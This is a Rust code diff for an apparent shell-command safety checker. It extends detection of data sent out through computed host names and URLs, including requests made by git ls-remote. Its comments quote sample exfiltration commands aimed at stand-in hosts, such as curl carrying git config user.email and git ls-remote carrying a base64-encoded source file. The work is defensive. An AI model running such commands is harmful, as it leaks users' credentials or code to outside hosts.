@@ -1,7 +1,8 @@
 //! Commands that are neither in a catalogue nor destructive, but touch what a person must
 //! see first: credential stores and credential hunting, package installs (which run the
-//! package's code), containers given the host, and host names computed at run time (the
-//! value resolving them sends to DNS). Soft (asked about in guard mode; in
+//! package's code), containers given the host, and host names and URLs computed at run
+//! time (the value resolving or requesting them sends to the host, whichever program makes
+//! the request: a routine network reader such as `git ls-remote` or a GET included). Soft (asked about in guard mode; in
 //! auto mode the reviewer needs the person's words naming the action and its target — so
 //! "install requests" does not cover `pip install reqeusts`) or, for credential stores,
 //! hard. Consulted for commands the catalogues left unknown, and for searches.
@@ -973,6 +974,8 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
         }
         // The value a host name computed at run time carries, and the word.
         let mut sent: Option<(String, Carry)> = None;
+        // The host the value goes to, when it is fixed (a URL's path or query).
+        let mut sent_host: Option<String> = None;
         if hit.is_none() && RESOLVERS.contains(&prog) {
             let computed = sc
                 .exec
@@ -993,10 +996,14 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
         // Any program not described as routine given a host name that holds a value
         // computed at run time (`ping $(whoami).x.example`, `curl https://$USER.x.example/`):
         // resolving it sends the value to whoever answers for the domain. A word its
-        // grammar names as a path (`tar -cf $(date).tar.gz`) is no host.
+        // grammar names as a path (`tar -cf $(date).tar.gz`) is no host. A routine program
+        // is exempt only when it reaches no host ([`reaches_network`]): a routine network
+        // reader (`git ls-remote`, `git fetch`, a GET) resolves the URL it is given as
+        // any other program does.
         if hit.is_none() {
             let f = findings.get(i);
-            let routine = f.is_some_and(|f| matches!(f.class, Class::Routine { .. }));
+            let routine =
+                f.is_some_and(|f| matches!(f.class, Class::Routine { .. }) && !reaches_network(f));
             // Substitutions that only print literals (`$(echo bucket)`) put no value of this
             // machine's into the name.
             let literal_output = {
@@ -1029,12 +1036,16 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
             }
         }
         // A URL to a host beyond this machine whose path or query holds a command's
-        // output (`curl "https://x.example/?q=$(git config user.email)"`): the request
-        // carries that output to the host. (Loopback stays on the machine; a computed host
-        // is judged above; a substitution that prints only literals carries nothing.)
+        // output or a variable's value (`curl "https://x.example/?q=$(git config
+        // user.email)"`, `git ls-remote https://x.example/$(base64 -w0 src/main.rs)`): the
+        // request carries that value to the host, whichever program makes it (routine
+        // network readers included, as above). (Loopback stays on the machine; a computed
+        // host is judged above; a substitution that prints only literals carries nothing,
+        // and a `$` the shell left as it is — quoted — expands nothing.)
         if hit.is_none() {
             let f = findings.get(i);
-            let routine = f.is_some_and(|f| matches!(f.class, Class::Routine { .. }));
+            let routine =
+                f.is_some_and(|f| matches!(f.class, Class::Routine { .. }) && !reaches_network(f));
             let literal_output = {
                 let mut subs = a
                     .commands
@@ -1042,21 +1053,29 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
                     .filter(|c| c.part == sc.part && matches!(c.origin, Origin::Substitution));
                 subs.clone().next().is_some() && subs.all(|c| c.output.is_some())
             };
-            let found = sc
-                .exec
-                .iter()
-                .skip(1)
-                .find(|w| !literal_output && url_carries_output(w));
-            if let (false, Some(w)) = (routine, found) {
+            let found = sc.exec.iter().enumerate().skip(1).find_map(|(j, w)| {
+                if !exec_word_dynamic(sc, j) {
+                    return None;
+                }
+                url_carries_output(w)
+                    .filter(|(_, c)| !(literal_output && *c == Carry::Substitution))
+                    .map(|(host, c)| (w, host, c))
+            });
+            if let (false, Some((w, host, carry))) = (routine, found) {
+                let value = match &carry {
+                    Carry::Env { name } => format!("the value of ${name}"),
+                    _ => "a command's output".to_string(),
+                };
                 hit = Some(Verdict::Soft {
                     category: "exfiltration",
                     reason: format!(
-                        "{prog} puts a command's output in the URL `{}`: it leaves the machine for that host",
+                        "{prog} puts {value} in the URL `{}`: it leaves the machine for {host}",
                         crate::decision::cause::one_line(w, 80)
                     ),
                     command: text.clone(),
                 });
-                sent = Some((w.clone(), Carry::Substitution));
+                sent = Some((w.clone(), carry));
+                sent_host = Some(host);
             }
         }
         let Some(v) = hit else { continue };
@@ -1089,7 +1108,7 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
                 };
                 f.effects.push(Effect::Net {
                     url,
-                    host: None,
+                    host: sent_host,
                     sends: vec![carry],
                 });
                 f.class = Class::Soft {
@@ -1104,23 +1123,45 @@ pub(super) fn exposures(a: &Analysis, findings: &mut [Finding], ctx: &JudgeCtx) 
     out
 }
 
-/// Is `word` a URL (`scheme://host…`) to a fixed host that is not loopback, with a
-/// command substitution after the host?
-fn url_carries_output(word: &str) -> bool {
-    let Some((scheme, rest)) = word.split_once("://") else {
-        return false;
+/// Does this finding reach a host: a fetch or send (`Effect::Net`) or an exchange with a
+/// remote service (`Effect::Remote`: `git ls-remote`, `git fetch`)? Such a program
+/// resolves and requests the URLs it is given, so what a URL carries leaves the machine
+/// even when the floor calls the program routine.
+fn reaches_network(f: &Finding) -> bool {
+    f.effects
+        .iter()
+        .any(|e| matches!(e, Effect::Net { .. } | Effect::Remote { .. }))
+}
+
+/// Did word `j` of `sc.exec` hold an expansion the shell left unresolved? `exec` is the
+/// tail of `argv` once wrappers are stripped; a word that cannot be matched with its
+/// `argv` word counts as unresolved (fail closed).
+fn exec_word_dynamic(sc: &SimpleCommand, j: usize) -> bool {
+    let Some(k) = (sc.argv.len() + j).checked_sub(sc.exec.len()) else {
+        return true;
     };
+    if sc.argv.get(k) != sc.exec.get(j) {
+        return true;
+    }
+    sc.dynamic_words.get(k).copied().unwrap_or(true)
+}
+
+/// When `word` is a URL (`scheme://host…`) to a fixed host that is not loopback, with a
+/// command substitution or a variable after the host: that host and what the expansion
+/// carries.
+fn url_carries_output(word: &str) -> Option<(String, Carry)> {
+    let (scheme, rest) = word.split_once("://")?;
     if scheme.is_empty()
         || !scheme
             .chars()
             .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.' | '"' | '\''))
     {
-        return false;
+        return None;
     }
     let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
     let (authority, tail) = rest.split_at(end);
     if authority.contains(['$', '`']) {
-        return false;
+        return None;
     }
     let host = authority.rsplit('@').next().unwrap_or(authority);
     let host = if let Some(h) = host.strip_prefix('[') {
@@ -1128,10 +1169,14 @@ fn url_carries_output(word: &str) -> bool {
     } else {
         host.split(':').next().unwrap_or(host)
     };
-    !host.is_empty()
-        && !crate::context::floor::is_loopback(host)
-        && !host.eq_ignore_ascii_case("localhost")
-        && (tail.contains("$(") || tail.contains('`'))
+    if host.is_empty()
+        || crate::context::floor::is_loopback(host)
+        || host.eq_ignore_ascii_case("localhost")
+    {
+        return None;
+    }
+    let (_, _, carry) = expansions_in(tail).into_iter().next()?;
+    Some((host.to_ascii_lowercase(), carry))
 }
 
 /// Last labels of file names that no top-level domain uses (checked against the public
